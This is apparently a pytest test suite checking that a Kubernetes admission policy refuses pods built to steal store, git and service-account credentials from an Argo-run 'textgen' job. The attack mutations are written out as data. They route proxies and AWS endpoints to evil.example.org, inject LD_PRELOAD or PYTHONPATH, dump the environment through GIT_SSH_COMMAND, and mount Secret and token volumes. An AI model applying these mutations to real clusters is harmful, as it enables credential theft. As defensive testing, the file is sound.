"""Pods that would take the credentials of the store or of git: refused by the policy, and by nothing else.

Each attack changes a pod that Argo made for an honest Workflow.
"""

import json
import subprocess
from collections.abc import Callable
from copy import deepcopy
from typing import Any

import pytest

from tests.cluster.kubernetes import Namespace, kubectl, until
from tests.k8s.policy import Object, container, refusal, stranger, variable

pytestmark = pytest.mark.cluster

Attack = Callable[[Object], object]

ELSEWHERE = "credentials of the store and of git, and tokens of the account textgen, are for"
VOLUME = "may not be volumes"
VARIABLES = "may have the variables that textgen compile writes only"
TRIGGER_VARIABLES = "the trigger's pods may have the variables of its WorkflowTemplate only"
MOUNTS = "may mount the volumes that textgen compile mounts there only"
FIELDS = "may have no workingDir, lifecycle, probes"
COMMAND = "have to run textgen's own command"
IMAGE = "have to run an image of the namespace's annotation textgen/"
BEFORE = "may have no containers before the job"
ARGO = "Argo's containers init and wait have to be as Argo makes them"
READ_ONLY = "/var/run/textgen read-only only"
EXECUTOR = "the token of textgen-executor is for Argo's containers"
SHARING = "may not share processes"

EXEC = {"exec": {"command": ["env"]}}
WEB = "AWS_WEB_IDENTITY_TOKEN_FILE"


def set_fields(name: str, **fields: Any) -> Attack:
    """Set fields of a container."""
    return lambda pod: container(pod, name).update(fields)


def add_variable(name: str, variable: str, value: str) -> Attack:
    """A variable in front of all others of the container."""
    return lambda pod: container(pod, name)["env"].insert(0, {"name": variable, "value": value})


def change_variable(name: str, entry: Object) -> Attack:
    """Another value or source for a variable of the container, after all others."""

    def change(pod: Object) -> None:
        env = container(pod, name)["env"]
        env[:] = [each for each in env if each["name"] != entry["name"]] + [entry]

    return change


def add_mount(name: str, volume: str, path: str, **fields: Any) -> Attack:
    """Mount a volume of the pod, or a new emptyDir, in the container."""

    def add(pod: Object) -> None:
        if volume not in {each["name"] for each in pod["spec"]["volumes"]}:
            pod["spec"]["volumes"].append({"name": volume, "emptyDir": {}})
        mounts = container(pod, name)["volumeMounts"]
        mounts[:] = [each for each in mounts if each["mountPath"] != path]
        mounts.append({"name": volume, "mountPath": path, **fields})

    return add


def add_volume(**source: Any) -> Attack:
    """A volume that `main` mounts."""

    def add(pod: Object) -> None:
        pod["spec"]["volumes"].append({"name": "stolen", **source})
        container(pod, "main")["volumeMounts"].append({"name": "stolen", "mountPath": "/stolen"})

    return add


def replace_volume(name: str, **source: Any) -> Attack:
    """Another source for a volume."""

    def replace(pod: Object) -> None:
        volumes = pod["spec"]["volumes"]
        volumes[:] = [{"name": name, **source} if each["name"] == name else each for each in volumes]

    return replace


def set_spec(**fields: Any) -> Attack:
    """Set fields of the pod."""
    return lambda pod: pod["spec"].update(fields)


def add_init_container(name: str = "before", **fields: Any) -> Attack:
    """A container that is done, or runs, before textgen's."""
    return lambda pod: pod["spec"]["initContainers"].insert(1, stranger(name, **fields))


def swap_names(pod: Object) -> None:
    """A container of the job's own with the name of one that may."""
    pod["spec"]["initContainers"] = [
        each for each in pod["spec"]["initContainers"] if each["name"] != "checkout"
    ]
    pod["spec"]["containers"].append(
        stranger("checkout", env=[variable("AWS_SECRET_ACCESS_KEY", "textgen-store")])
    )


def forge_run(pod: Object) -> None:
    """The uid of another run."""
    change_variable("store", {"name": "TEXTGEN_RUN", "value": "0" * 8})(pod)


def take_identity(pod: Object) -> None:
    """The token with which AWS gives the account's role, in the job's container."""
    source = {"serviceAccountToken": {"audience": "sts.amazonaws.com", "path": "token"}}
    add_volume(projected={"sources": [source]})(pod)


# What is changed, and what the refusal says
ATTACKS: dict[str, tuple[Attack, str]] = {
    # the Secrets in other containers
    "a variable of main": (
        set_fields("main", env=[variable("KEY", "textgen-store", "AWS_SECRET_ACCESS_KEY")]),
        f"{ELSEWHERE} the init containers inputs, checkout and store only, not for main",
    ),
    "all variables of main": (
        set_fields("main", envFrom=[{"secretRef": {"name": "textgen-store"}}]),
        ELSEWHERE,
    ),
    "a variable of commit": (set_fields("commit", env=[variable("KEY", "textgen-store")]), ELSEWHERE),
    "a variable of wait": (
        lambda pod: container(pod, "wait")["env"].append(variable("ARGO_KEY", "textgen-store")),
        ELSEWHERE,
    ),
    "git's password in main": (
        set_fields("main", env=[variable("KEY", "textgen-git", "password")]),
        ELSEWHERE,
    ),
    "the git host's token in main": (set_fields("main", env=[variable("KEY", "textgen-status")]), ELSEWHERE),
    "git's password in store": (
        lambda pod: container(pod, "store")["env"].append(variable("GIT_PASSWORD", "textgen-git")),
        VARIABLES,
    ),
    "a variable of a container of its own": (
        lambda pod: pod["spec"]["containers"].append(
            stranger("thief", env=[variable("KEY", "textgen-store")])
        ),
        ELSEWHERE,
    ),
    "a variable of an init container of its own": (
        add_init_container(env=[variable("KEY", "textgen-store")]),
        ELSEWHERE,
    ),
    "a container of the job named checkout": (swap_names, ELSEWHERE),
    # the Secrets as volumes
    "the store's Secret as a volume": (add_volume(secret={"secretName": "textgen-store"}), VOLUME),
    "the store's Secret in a projected volume": (
        add_volume(projected={"sources": [{"secret": {"name": "textgen-store"}}]}),
        VOLUME,
    ),
    "git's Secret in a projected volume": (
        add_volume(projected={"sources": [{"secret": {"name": "textgen-git"}}]}),
        VOLUME,
    ),
    "the store's Secret for a CSI driver": (
        add_volume(csi={"driver": "csi.example.org", "nodePublishSecretRef": {"name": "textgen-store"}}),
        VOLUME,
    ),
    "git's Secret as a volume of main": (add_volume(secret={"secretName": "textgen-git"}), ELSEWHERE),
    "git's Secret mounted in store": (
        add_mount("store", "git", "/var/run/secrets/textgen-git", readOnly=True),
        MOUNTS,
    ),
    "git's Secret mounted elsewhere in checkout": (
        add_mount("checkout", "git", "/inputs/repo", readOnly=True),
        MOUNTS,
    ),
    "the store's Secret to pull images": (set_spec(imagePullSecrets=[{"name": "textgen-store"}]), VOLUME),
    # the account's tokens
    "the account's token for AWS in main": (take_identity, ELSEWHERE),
    "the token of store in main": (add_mount("main", "api", "/stolen"), ELSEWHERE),
    "the account's token in every container": (set_spec(automountServiceAccountToken=True), ELSEWHERE),
    "the account of Argo's executor": (
        set_spec(serviceAccountName="textgen-executor", serviceAccount="textgen-executor"),
        "no pod may have the service account textgen-executor",
    ),
    "the executor's token in main": (add_mount("main", "exec-sa-token", "/stolen"), EXECUTOR),
    "the executor's token in a variable of main": (
        set_fields("main", env=[variable("KEY", "textgen-executor.service-account-token", "token")]),
        ELSEWHERE,
    ),
    # other code with textgen's credentials
    "another image": (set_fields("store", image="debian:12"), IMAGE),
    "another image of the same name": (set_fields("checkout", image="evil.example.org/textgen:0.1.0"), IMAGE),
    "another command": (set_fields("store", command=["env"]), COMMAND),
    "another command of textgen's": (
        set_fields("store", command=["python3", "-m", "job", "inputs"]),
        COMMAND,
    ),
    "the image's own command": (set_fields("store", command=[]), COMMAND),
    "arguments": (set_fields("checkout", args=["--debug"]), COMMAND),
    "another working directory": (set_fields("checkout", workingDir="/inputs"), FIELDS),
    "a hook after the start": (set_fields("store", lifecycle={"postStart": EXEC}), FIELDS),
    "a hook before the end": (set_fields("store", lifecycle={"preStop": EXEC}), FIELDS),
    "a liveness probe": (set_fields("store", livenessProbe=EXEC), FIELDS),
    "a readiness probe": (set_fields("store", readinessProbe=EXEC), FIELDS),
    "a startup probe": (set_fields("store", startupProbe=EXEC), FIELDS),
    "a file over the code": (
        set_fields("store", terminationMessagePath="/opt/textgen/code/job/__init__.py"),
        FIELDS,
    ),
    "checkout beside the job": (set_fields("checkout", restartPolicy="Always"), FIELDS),
    "variables of a ConfigMap": (
        set_fields("store", envFrom=[{"configMapRef": {"name": "attacker"}}]),
        FIELDS,
    ),
    # variables
    **{
        f"{name} in {where}": (add_variable(where, name, value), VARIABLES)
        for where in ("store", "checkout")
        for name, value in {
            "PYTHONPATH": "/inputs",
            "PYTHONSTARTUP": "/inputs/x.py",
            "PYTHONHOME": "/inputs",
            "PYTHONINSPECT": "1",
            "LD_PRELOAD": "/inputs/x.so",
            "LD_LIBRARY_PATH": "/inputs",
            "PATH": "/inputs:/usr/bin",
            "HOME": "/inputs",
            "GIT_SSH": "/inputs/x",
            "GIT_CONFIG_GLOBAL": "/inputs/x",
            "GIT_EXEC_PATH": "/inputs",
            "SSL_CERT_FILE": "/inputs/ca",
            "HTTPS_PROXY": "http://evil.example.org",
            "AWS_ENDPOINT_URL": "http://evil.example.org",
            "AWS_ENDPOINT_URL_S3": "http://evil.example.org",
            "AWS_CONFIG_FILE": "/inputs/x",
            "AWS_SHARED_CREDENTIALS_FILE": "/inputs/x",
            "AWS_PROFILE": "evil",
            "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://evil.example.org",
            "KUBERNETES_SERVICE_HOST": "evil.example.org",
            "TEXTGEN_DEBUG": "1",
        }.items()
    },
    "another command for ssh": (
        change_variable("checkout", {"name": "GIT_SSH_COMMAND", "value": "cat /proc/self/environ"}),
        VARIABLES,
    ),
    "another store": (
        change_variable("store", {"name": "TEXTGEN_STORE", "value": "s3://x?endpoint=http://evil"}),
        VARIABLES,
    ),
    "the store of another ConfigMap": (
        change_variable(
            "store",
            {"name": "TEXTGEN_STORE", "valueFrom": {"configMapKeyRef": {"name": "evil", "key": "url"}}},
        ),
        VARIABLES,
    ),
    "another run": (forge_run, VARIABLES),
    "another pod": (change_variable("store", {"name": "TEXTGEN_POD", "value": "other"}), VARIABLES),
    "a key as the script": (
        change_variable("checkout", variable("SCRIPT", "textgen-store", "AWS_SECRET_ACCESS_KEY")),
        VARIABLES,
    ),
    "a key as a parameter": (
        change_variable("checkout", variable("PARAMETER_prompt", "textgen-store", "AWS_SECRET_ACCESS_KEY")),
        VARIABLES,
    ),
    "git's password as a secret of the file": (
        change_variable("checkout", variable("SECRET_X", "textgen-git", "password")),
        VARIABLES,
    ),
    "a key in the text of the script": (
        change_variable("checkout", {"name": "SCRIPT", "value": "echo $(AWS_SECRET_ACCESS_KEY)"}),
        VARIABLES,
    ),
    "a key in the text of a parameter": (
        change_variable("checkout", {"name": "PARAMETER_prompt", "value": "$(GIT_PASSWORD)"}),
        VARIABLES,
    ),
    "a role's token of another file": (add_variable("store", WEB, "/outputs/token"), VARIABLES),
    # mounts
    "a volume over the code": (add_mount("store", "outputs", "/opt/textgen/code/job"), MOUNTS),
    "a volume over the code of checkout": (add_mount("checkout", "evil", "/opt/textgen"), MOUNTS),
    "a volume over the home folder": (add_mount("checkout", "evil", "/home/textgen"), MOUNTS),
    "a volume over the configuration of git": (add_mount("checkout", "evil", "/etc/gitconfig"), MOUNTS),
    "a ConfigMap over the inputs": (replace_volume("inputs", configMap={"name": "evil"}), MOUNTS),
    "a claim over the inputs": (
        replace_volume("inputs", persistentVolumeClaim={"claimName": "evil"}),
        MOUNTS,
    ),
    "a claim over the verdict": (
        replace_volume("verdict", persistentVolumeClaim={"claimName": "evil"}),
        MOUNTS,
    ),
    "a part of a volume": (add_mount("store", "outputs", "/outputs", subPath="x"), MOUNTS),
    "a part of a volume by a variable": (
        add_mount("store", "outputs", "/outputs", subPathExpr="$(TEXTGEN_POD)"),
        MOUNTS,
    ),
    "another file for the API's token": (add_mount("store", "outputs", "/var/run/textgen-api"), MOUNTS),
    "the verdict writable in main": (add_mount("main", "verdict", "/verdict"), READ_ONLY),
    "the verdict under another name in main": (add_mount("main", "verdict", "/x"), READ_ONLY),
    "the outputs as the verdict": (add_mount("store", "outputs", "/verdict"), READ_ONLY),
    "the notes writable in main": (add_mount("main", "notes", "/notes"), READ_ONLY),
    # the pod
    "one process table for all containers": (set_spec(shareProcessNamespace=True), SHARING),
    "an init container before checkout": (add_init_container(), BEFORE),
    "a sidecar beside checkout": (add_init_container(restartPolicy="Always"), BEFORE),
    "another image for Argo's init": (set_fields("init", image="debian:12"), ARGO),
    "another image for Argo's wait": (set_fields("wait", image="debian:12"), ARGO),
    "another command for Argo's init": (set_fields("init", command=["sh", "-c", "env"]), ARGO),
    "files of Argo's init in the inputs": (add_mount("init", "inputs", "/mainctrfs/inputs"), ARGO),
    "a hook in Argo's wait": (set_fields("wait", lifecycle={"postStart": EXEC}), ARGO),
    "a kubeconfig for Argo's wait": (add_variable("wait", "KUBECONFIG", "/mainctrfs/outputs/x"), ARGO),
    "certificates for Argo's wait": (add_variable("wait", "SSL_CERT_FILE", "/mainctrfs/outputs/x"), ARGO),
    "a volume over Argo's code": (add_mount("wait", "outputs", "/usr/local/bin"), ARGO),
}

TRIGGER_ATTACKS: dict[str, tuple[Attack, str]] = {
    "another image": (set_fields("main", image="textgen:0.1.0"), IMAGE),
    "another command": (set_fields("main", command=["env"]), COMMAND),
    "a command after Argo's": (
        set_fields("main", command=["/var/run/argo/argoexec", "emissary", "--", "env"]),
        COMMAND,
    ),
    "other repositories": (
        change_variable("main", {"name": "TEXTGEN_REPOSITORIES", "value": "https://evil.example.org/x.git"}),
        TRIGGER_VARIABLES,
    ),
    "another command for ssh": (
        change_variable("main", {"name": "GIT_SSH_COMMAND", "value": "cat /proc/self/environ"}),
        TRIGGER_VARIABLES,
    ),
    "PYTHONPATH": (add_variable("main", "PYTHONPATH", "/tmp"), TRIGGER_VARIABLES),
    "another home folder": (change_variable("main", {"name": "HOME", "value": "/x"}), TRIGGER_VARIABLES),
    "another cluster configuration": (replace_volume("cluster", configMap={"name": "evil"}), MOUNTS),
    "a volume over the code": (add_mount("main", "tmp", "/opt/textgen/code"), MOUNTS),
    "a container beside it": (lambda pod: pod["spec"]["containers"].append(stranger("beside")), BEFORE),
    "an init container": (add_init_container(), BEFORE),
    "files of Argo's init in its folder": (add_mount("init", "tmp", "/mainctrfs/tmp"), ARGO),
    "another executor": (set_fields("init", image="debian:12"), ARGO),
    "a hook": (set_fields("main", lifecycle={"postStart": EXEC}), FIELDS),
    "one process table for all containers": (set_spec(shareProcessNamespace=True), SHARING),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_pod_that_takes_credentials_is_refused(
    attack: str, protected: Namespace, restricted: Namespace, job_pod: Object
) -> None:
    change, reason = ATTACKS[attack]
    pod = deepcopy(job_pod)
    change(pod)
    assert reason in refusal(protected, pod)
    assert refusal(restricted, pod) == ""  # nothing else refuses it


@pytest.mark.parametrize("attack", TRIGGER_ATTACKS)
def test_a_pod_like_the_triggers_is_refused(attack: str, protected: Namespace, trigger_pod: Object) -> None:
    change, reason = TRIGGER_ATTACKS[attack]
    pod = deepcopy(trigger_pod)
    change(pod)
    assert reason in refusal(protected, pod)


def test_the_pods_that_argo_makes_are_admitted(
    protected: Namespace, job_pod: Object, trigger_pod: Object
) -> None:
    assert refusal(protected, job_pod) == ""
    assert refusal(protected, trigger_pod) == ""


def test_pods_without_credentials_are_nobodys_business(protected: Namespace) -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "free"}}
    store = stranger("store", workingDir="/tmp", lifecycle={"postStart": EXEC})
    spec = {"containers": [stranger("main", env=[variable("TOKEN", "textgen-secrets")]), store]}
    assert refusal(protected, {**pod, "spec": {**spec, "shareProcessNamespace": True}}) == ""


def test_a_pod_with_identity_of_aws_is_admitted_as_eks_makes_it(
    protected: Namespace, job_pod: Object
) -> None:
    pod = deepcopy(job_pod)
    source = {"serviceAccountToken": {"audience": "sts.amazonaws.com", "path": "token"}}
    pod["spec"]["volumes"].append({"name": "aws-iam-token", "projected": {"sources": [source]}})
    folder = "/var/run/secrets/eks.amazonaws.com/serviceaccount"
    for name in ("checkout", "store"):
        each = container(pod, name)
        each["env"] = [entry for entry in each["env"] if "ACCESS_KEY" not in entry["name"]]
        each["env"] += [
            {"name": "AWS_STS_REGIONAL_ENDPOINTS", "value": "regional"},
            {"name": "AWS_DEFAULT_REGION", "value": "eu-central-1"},
            {"name": "AWS_REGION", "value": "eu-central-1"},
            {"name": "AWS_ROLE_ARN", "value": "arn:aws:iam::123456789012:role/textgen"},
            {"name": WEB, "value": f"{folder}/token"},
        ]
        each["volumeMounts"].append({"name": "aws-iam-token", "mountPath": folder, "readOnly": True})
    assert refusal(protected, pod) == ""
    container(pod, "main")["volumeMounts"].append({"name": "aws-iam-token", "mountPath": folder})
    assert ELSEWHERE in refusal(protected, pod)


def test_a_pod_as_large_as_compile_makes_it_is_admitted(protected: Namespace, job_pod: Object) -> None:
    pod = deepcopy(job_pod)
    env = container(pod, "checkout")["env"]
    env += [{"name": f"PARAMETER_{number}", "value": "x" * 1000} for number in range(200)]
    change_variable("checkout", {"name": "SCRIPT", "value": "x" * (95 << 10)})(pod)
    change_variable("store", {"name": "TEXTGEN_STEPS", "value": "x" * (95 << 10)})(pod)
    assert refusal(protected, pod) == ""


def test_a_namespace_that_names_no_images_has_no_pods_with_credentials(
    protected: Namespace, job_pod: Object
) -> None:
    namespace = ("namespace", protected.name)
    image = kubectl("get", *namespace, "-o", r"jsonpath={.metadata.annotations.textgen/image}")
    kubectl("annotate", *namespace, "textgen/image-")
    try:
        until(lambda: IMAGE in refusal(protected, job_pod), "the annotation to be gone", 120)
    finally:
        kubectl("annotate", *namespace, f"textgen/image={image}")
        until(lambda: not refusal(protected, job_pod), "the annotation to be back", 120)


def test_an_image_or_an_ephemeral_container_can_t_come_later(protected: Namespace, job_pod: Object) -> None:
    pod = deepcopy(job_pod)
    pod["metadata"] = {"generateName": "later-", "ownerReferences": pod["metadata"]["ownerReferences"]}
    pod["spec"]["nodeSelector"] = {"nowhere": "true"}
    made = kubectl("-n", protected.name, "create", "-o", "name", "-f", "-", text=json.dumps(pod)).strip()
    image = {"spec": {"initContainers": [{"name": "store", "image": "debian:12"}]}}
    assert IMAGE in run_kubectl(protected, "patch", made, "-p", json.dumps(image))
    debug = ("debug", made, "--image=debian:12", "--target=store", "--profile=restricted", "--", "env")
    assert EXECUTOR in run_kubectl(protected, *debug)
    run_kubectl(protected, "label", made, "changed=true", status=0)


@pytest.mark.parametrize("container", ["store", "checkout", "wait"])
@pytest.mark.parametrize("how", ["exec", "attach"])
def test_no_shell_opens_in_a_container_with_credentials(
    how: str, container: str, protected: Namespace, restricted: Namespace, job_pod: Object
) -> None:
    refused, free = (ask_for_shell(each, how, container) for each in (protected, restricted))
    assert "nobody may run commands in the containers that have credentials" in refused
    assert "nobody" not in free


def ask_for_shell(namespace: Namespace, how: str, name: str) -> str:
    """The answer to a request for a shell in a container of a pod, which need not be there."""
    path = f"/api/v1/namespaces/{namespace.name}/pods/any/{how}?container={name}&command=env&stdout=true"
    done = subprocess.run(
        ["kubectl", "get", "--raw", path], capture_output=True, text=True, check=False, timeout=300
    )
    return done.stderr


def run_kubectl(namespace: Namespace, *words: str, status: int = 1) -> str:
    """kubectl's errors on one line."""
    done = subprocess.run(
        ["kubectl", "-n", namespace.name, *words], capture_output=True, text=True, check=False, timeout=300
    )
    assert done.returncode == status, done.stderr
    return " ".join(done.stderr.split())
